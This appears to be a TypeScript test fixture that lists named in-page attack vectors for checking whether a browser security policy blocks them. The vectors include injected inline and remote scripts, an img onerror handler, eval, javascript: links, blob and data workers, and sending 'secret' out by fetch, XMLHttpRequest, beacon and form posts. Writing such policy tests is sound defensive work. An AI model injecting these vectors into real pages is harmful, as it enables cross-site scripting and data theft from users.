/** Runs in the page. `url` is where nothing may arrive; `taken` is what a script of the attack calls with its `name`. */
export type PageAttack = (attack: { readonly url: string; readonly name: string }) => unknown;

declare global {
  interface Window {
    taken?: (name: string) => void;
    names?: string[];
  }
}

/**
 * What a page is talked into by a text or a file that it shows. Each works on a page without rules, which the browser's
 * spec shows too. They begin in a timer where the driver's own scripts are free of the page's policy.
 */
export const pageAttacks: Readonly<Record<string, PageAttack>> = {
  'inline script': ({ name }) => {
    const script = document.createElement('script');
    script.textContent = `taken(${JSON.stringify(name)})`;
    document.head.append(script);
  },
  'event handler in markup': ({ name }) => {
    const box = document.createElement('div');
    box.innerHTML = `<img src="data:," onerror="taken('${name}')">`;
    document.body.append(box);
  },
  eval: ({ name }) =>
    new Promise((resolve) => setTimeout(resolve)).then(() => Reflect.get(window, 'eval')(`taken('${name}')`)),
  'new Function': ({ name }) =>
    new Promise((resolve) => setTimeout(resolve)).then(() =>
      new (Reflect.get(window, 'Function'))(`taken('${name}')`)(),
    ),
  'a timer of text': ({ name }) => setTimeout(() => setTimeout(`taken('${name}')` as unknown as () => void)),
  'javascript: link': ({ name }) => {
    const link = document.createElement('a');
    link.href = `javascript:void taken(${JSON.stringify(name)})`;
    document.body.append(link);
    link.click();
  },
  'javascript: address': ({ name }) => location.assign(`javascript:void taken(${JSON.stringify(name)})`),
  'remote script': ({ url }) => {
    const script = document.createElement('script');
    script.src = url;
    document.head.append(script);
  },
  'remote module': ({ url }) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = url;
    document.head.append(script);
  },
  'data: script': ({ name }) => {
    const script = document.createElement('script');
    script.src = `data:text/javascript,taken(${encodeURIComponent(JSON.stringify(name))})`;
    document.head.append(script);
  },
  'blob: script': ({ name }) => {
    const script = document.createElement('script');
    script.src = URL.createObjectURL(new Blob([`taken(${JSON.stringify(name)})`], { type: 'text/javascript' }));
    document.head.append(script);
  },
  'blob: worker': ({ url }) => {
    new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`])));
  },
  'data: worker': ({ url }) => {
    new Worker(`data:text/javascript,fetch(${encodeURIComponent(JSON.stringify(url))},{mode:'no-cors'})`);
  },
  'service worker': async ({ name }) => {
    const own = document.querySelector<HTMLScriptElement>('script[src]')?.src ?? '';
    await navigator.serviceWorker.register(own);
    window.taken?.(name);
  },
  fetch: ({ url }) => fetch(url, { mode: 'no-cors' }),
  XMLHttpRequest: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    request.send('secret');
  },
  beacon: ({ url }) => navigator.sendBeacon(url, 'secret'),
  'event source': ({ url }) => {
    new EventSource(url);
  },
  'WebSocket elsewhere': ({ url }) => {
    new WebSocket(url.replace('http', 'ws'));
  },
  'remote picture': ({ url }) => {
    new Image().src = url;
  },
  'remote picture of a style': ({ url }) => {
    const box = document.createElement('div');
    box.style.cssText = `width: 9px; height: 9px; background: url(${url})`;
    document.body.append(box);
  },
  'remote style sheet': ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = url;
    document.head.append(link);
  },
  'style that imports': ({ url }) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${url});`;
    document.head.append(style);
  },
  'remote font': ({ url }) => new FontFace('foreign', `url(${url})`).load(),
  'remote film': ({ url }) => {
    const film = document.createElement('video');
    film.src = url;
    document.body.append(film);
    film.load();
  },
  prefetch: ({ url }) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = url;
    document.head.append(link);
  },
  iframe: ({ url }) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
  },
  'iframe of text': ({ name }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>parent.taken(${JSON.stringify(name)})</script>`;
    document.body.append(frame);
  },
  'iframe of a javascript: address': ({ name }) => {
    const frame = document.createElement('iframe');
    frame.src = `javascript:void parent.taken(${JSON.stringify(name)})`;
    document.body.append(frame);
  },
  object: ({ url }) => {
    const object = document.createElement('object');
    object.data = url;
    document.body.append(object);
  },
  embed: ({ url }) => {
    const embed = document.createElement('embed');
    embed.src = url;
    document.body.append(embed);
  },
  'form sent elsewhere': ({ url }) => {
    const frame = document.createElement('iframe');
    frame.name = 'target';
    const form = document.createElement('form');
    form.method = 'post';
    form.action = url;
    form.target = 'target';
    document.body.append(frame, form);
    form.submit();
  },
  'another base': ({ url, name }) => {
    const base = document.createElement('base');
    base.href = url;
    document.head.append(base);
    if (document.baseURI === url) window.taken?.(name);
    base.remove();
  },
};

/** What asks for a sense or a device. */
export const PERMISSIONS = ['camera', 'microphone', 'geolocation', 'clipboard-read', 'midi'] as const;

/** What the page is told of each: `prompt` means that a person could be talked into it. */
export const askPermissions = (names: readonly string[]): Promise<[string, string][]> =>
  Promise.all(
    names.map(async (name): Promise<[string, string]> => {
      const { state } = await navigator.permissions.query({ name: name as PermissionName });
      return [name, state];
    }),
  );
